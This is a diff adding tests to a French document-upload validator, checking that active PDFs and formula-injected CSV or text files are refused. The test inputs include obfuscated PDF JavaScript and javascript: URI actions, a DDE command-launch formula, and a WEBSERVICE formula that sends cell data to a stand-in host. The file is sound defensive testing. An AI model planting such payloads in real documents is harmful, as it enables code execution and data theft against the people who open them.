@@ -3,6 +3,7 @@
 from io import BytesIO
 from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo
 
+import pikepdf
 import pytest
 
 from hub.files import DocumentKind, FileRefused, check_document
@@ -100,6 +101,75 @@ def test_a_pdf_that_runs_carries_or_hides_something_is_refused(content, reason):
 def test_a_pdf_that_only_speaks_of_such_things_is_taken():
     text = b"<< /Length 70 >>\nstream\nBT (Le JavaScript de la page, /Launcher, EncryptMetadata) Tj ET\nendstream"
     assert check_document(file=sent("cours.pdf", pdf(text, b"<< /JavaScripts 1 /EncryptMetadata true >>")))
+
+
+ACTIONS = [
+    (b"<< /S /Rendition /JS (app.alert\\(1\\)) >>", "vidéo"),
+    (b"<< /S /Ren#64ition >>", "vidéo"),
+    (b"<< /S /SubmitForm /F (http://exemple.org) >>", "envoie"),
+    (b"<< /S /ImportData /F (a.fdf) >>", "envoie"),
+    (b"<< /S /GoToR /F (autre.pdf) /D [0 /Fit] >>", "ouvre un autre fichier"),
+    (b"<< /S /GoToE /T << >> >>", "ouvre un autre fichier"),
+    (b"<< /S /Thread /F (autre.pdf) >>", "ouvre un autre fichier"),
+    (b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", "lien"),
+    (b"<< /S /URI /URI ( java\\nscript:alert) >>", "lien"),
+    (b"<< /S /URI /URI <6A6176617363726970743A61> >>", "lien"),
+    (b"<< /S /URI /URI (file://serveur/partage) >>", "lien"),
+    (b"<< /S /URI /URI (\\\\\\\\serveur\\\\a) >>", "lien"),
+    (b"<< /Kids [[<< /A << /JS (1) >> >>]] >>", "JavaScript"),
+    (b"<< /Subtype /Screen >>", "vidéo"),
+    (b"<< /Type /Filespec /EF << /F 3 0 R >> >>", "pièce jointe"),
+    (b"<< /F (ailleurs.bin) /Length 1 >>\nstream\na\nendstream", "ouvre un autre fichier"),
+]
+
+
+@pytest.mark.parametrize(("action", "reason"), ACTIONS)
+@pytest.mark.parametrize("is_listed", [False, True], ids=["plainly", "in a list of objects"])
+def test_an_active_pdf_is_refused_wherever_the_action_is(action, reason, is_listed):
+    document = pikepdf.open(BytesIO(pdf(action)))
+    stream = BytesIO()
+    mode = pikepdf.ObjectStreamMode.generate if is_listed else pikepdf.ObjectStreamMode.disable
+    document.Root.Held = document.get_object(4, 0)
+    document.save(stream, object_stream_mode=mode)
+    message = why_refused("rapport.pdf", stream.getvalue())
+    assert reason in message
+    assert message.endswith("puis envoyez ce nouveau fichier.")
+
+
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        b"<< /S /URI /URI (https://exemple.org/?a=javascript:1) >>",
+        b"<< /S /URI /URI (mailto:a@exemple.org) >>",
+        b"<< /S /URI /URI (www.exemple.org/a:b) >>",
+        b"<< /S /GoTo /D [3 0 R /Fit] >>",
+        b"<< /S /Named /N /NextPage >>",
+        b"<< /Font << /JS 3 0 R /EF 3 0 R >> >>",
+    ],
+)
+def test_links_and_names_that_do_nothing_are_left(harmless):
+    assert check_document(file=sent("rapport.pdf", pdf(harmless)))
+
+
+def protected(*, user: str, script: bool = False) -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    if script:
+        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+    stream = BytesIO()
+    allowed = pikepdf.Permissions(print_highres=False, print_lowres=False)
+    document.save(
+        stream,
+        encryption=pikepdf.Encryption(owner="dihal", user=user, allow=allowed),
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+    )
+    return stream.getvalue()
+
+
+def test_a_pdf_that_only_limits_printing_is_taken_and_still_looked_at():
+    assert check_document(file=sent("rapport.pdf", protected(user="")))
+    assert "JavaScript" in why_refused("rapport.pdf", protected(user="", script=True))
+    assert "mot de passe" in why_refused("rapport.pdf", protected(user="secret"))
 
 
 # --- Office -----------------------------------------------------------------------------------------------------------
@@ -209,10 +279,26 @@ def test_an_open_document_that_runs_or_hides_something_is_refused(content, reaso
         (b"{\\rtf1 texte}", "RTF"),
         (b"bonjour\n<script>alert(1)</script>", "page web"),
         (b"a;=cmd|'/c calc'!A0\n", "lancerait un programme"),
+        (b"=cmd|'/c a|b'!A0", "lancerait un programme"),
+        (b'=HYPERLINK("http://exemple.org";"Voir")', "ouvre une adresse"),
+        (b'nom;"=1+hyperlink(""http://exemple.org"")"\n', "ouvre une adresse"),
+        (b"nom,\t @LIEN_HYPERTEXTE(A1)\n", "ouvre une adresse"),
+        (b'+WEBSERVICE("http://exemple.org/"&A1)', "ouvre une adresse"),
+        (b'=IMAGE("http://exemple.org/a.png")', "ouvre une adresse"),
     ],
 )
 def test_a_text_that_is_not_plain_text_is_refused(content, reason):
     assert reason in why_refused("mesures.csv", content)
+
+
+@pytest.mark.parametrize("words", ["- image (voir annexe)", "Lyon - Paris | venez !", "a;-3,5;@dihal;+33 1", "=A1+B1"])
+def test_a_text_that_only_looks_like_a_formula_is_taken(words):
+    assert check_document(file=sent("note.txt", words.encode()))
+
+
+def test_the_relations_of_an_office_document_are_bounded_together():
+    many = {f"word/_rels/{number}.rels": b"<r>" + b"<a/>" * 500_000 + b"</r>" for number in range(6)}
+    assert "beaucoup plus que sa taille" in why_refused("convention.docx", office(parts=many))
 
 
 @pytest.mark.parametrize("kind", MAIN_TYPES)
